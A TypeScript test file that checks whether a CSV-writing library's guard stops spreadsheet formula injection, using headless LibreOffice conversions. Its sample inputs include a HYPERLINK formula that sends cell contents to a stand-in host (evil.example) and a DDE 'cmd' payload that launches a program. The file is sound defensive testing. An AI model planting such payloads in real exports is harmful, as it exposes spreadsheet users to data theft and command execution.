import { execFile } from 'node:child_process'
import { existsSync } from 'node:fs'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { lookAtFile } from '@tocsin/exchange/reading/look-at-file'
import { readRows } from '@tocsin/exchange/reading/read-rows'
import { byteOrderMark, csvLine } from '@tocsin/exchange/writing/csv-line'
import { unguarded } from '@tocsin/exchange/writing/guard'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

const run = promisify(execFile)
const soffice = ['/usr/bin/soffice', '/usr/local/bin/soffice'].find(existsSync)
if (!soffice)
  console.log(
    'Left out: files written for spreadsheets, read by LibreOffice (Debian package libreoffice-calc).',
  )

/** What people and sellers put into cells to make a spreadsheet work for them (security study, case 42). */
const dangerous = [
  '=1+1',
  '=HYPERLINK("https://evil.example?"&A1,"open")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '=1+1\n=2+2',
  "'=1+1",
  '"=1+1"',
  'a;b,c|d',
]
const plain = ['+49 170 1234567', '-5', 'Grüße, 𝕏', 'two\nlines', ' spaced ', "'tis"]

describe.skipIf(!soffice)('a file that we write, opened in LibreOffice', () => {
  let folder: string
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'tocsin-calc-'))
  })
  afterAll(() => rm(folder, { recursive: true, force: true }))

  /** Comma, quotation mark, UTF-8, from the first line, every column as it comes; formulas are looked for. */
  const filter = 'CSV:44,34,76,1,,0,false,true,true'
  const convert = async (name: string, text: string, to: string): Promise<string> => {
    await writeFile(join(folder, name), text)
    await run(
      soffice!,
      [
        `-env:UserInstallation=file://${folder}/profile`,
        '--headless',
        `--infilter=${filter}`,
        '--convert-to',
        to,
        '--outdir',
        folder,
        join(folder, name),
      ],
      { timeout: 110_000 },
    )
    return readFile(join(folder, name.replace(/\.csv$/, `.${to.split(':')[0]}`)), 'utf8')
  }

  it('holds no formula, whatever stood in a cell; without the guard it would', async () => {
    const guarded = byteOrderMark + [...dangerous, ...plain].map(cell => csvLine([cell, 'beside'])).join('')
    const sheet = await convert('guarded.csv', guarded, 'fods')
    expect(sheet).toContain('beside')
    expect(sheet).not.toContain('table:formula')
    expect(await convert('bare.csv', '=1+1,beside\r\n', 'fods')).toContain('table:formula')
  }, 240_000)

  it('comes back, saved by it, with every value as it was', async () => {
    const values = [...dangerous, ...plain]
    const text =
      byteOrderMark + csvLine(['value', 'n']) + values.map((cell, n) => csvLine([cell, String(n)])).join('')
    await convert('there.csv', text, 'ods:calc8').catch(() => '')
    await run(
      soffice!,
      [
        `-env:UserInstallation=file://${folder}/profile`,
        '--headless',
        '--convert-to',
        'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false',
        '--outdir',
        join(folder, 'back'),
        join(folder, 'there.ods'),
      ],
      { timeout: 110_000 },
    )
    const bytes = await readFile(join(folder, 'back', 'there.csv'))
    const shape = await lookAtFile(bytes)
    const read: string[] = []
    const whole = (async function* () {
      yield bytes
    })()
    for await (const rows of readRows(whole, shape))
      for (const row of rows) if ('cells' in row) read.push(unguarded(row.cells[0]!))
    // Its cells know one kind of line end, and no tab.
    const ends = (value: string) => value.replace(/\r\n?/g, '\n').replaceAll('\t', '')
    expect(read.map(ends)).toEqual(values.map(ends))
  }, 240_000)
})
